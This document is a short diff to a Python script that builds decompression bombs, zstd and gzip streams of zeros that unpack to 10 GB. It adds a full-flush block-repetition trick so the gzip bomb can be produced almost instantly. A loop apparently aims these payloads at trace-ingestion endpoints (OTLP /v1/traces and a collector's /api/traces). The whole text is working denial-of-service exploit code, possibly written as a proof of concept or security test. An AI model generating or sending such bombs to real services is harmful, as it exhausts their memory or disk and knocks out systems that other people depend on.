@@ -80,13 +80,16 @@ def zeros_packed(coding, size):
     chunk = bytes(1 << 20)
     if coding == 'zstd':
         packer = zstandard.ZstdCompressor(level=1, write_content_size=False).compressobj()
-    else:
-        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    return b''.join([packer.compress(chunk) for _ in range(size >> 20)] + [packer.flush()])
+        return b''.join([packer.compress(chunk) for _ in range(size >> 20)] + [packer.flush()])
+    # A block that depends on none before it, again and again: what packs 10 GB in no time.
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
+    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
+    return first + block * ((size >> 20) - 1) + packer.flush()
 
 
 def bombs():
-    for coding, size in (('zstd', 10 << 30), ('gzip', 330 << 20)):
+    for coding, size in (('zstd', 10 << 30), ('gzip', 10 << 30)):
         bomb = zeros_packed(coding, size)
         print('%s: %d bytes that unpack to %d' % (coding, len(bomb), size))
         for port, path, kind in ((OTLP, '/v1/traces', PROTOBUF), (COLLECTOR, '/api/traces', THRIFT)):
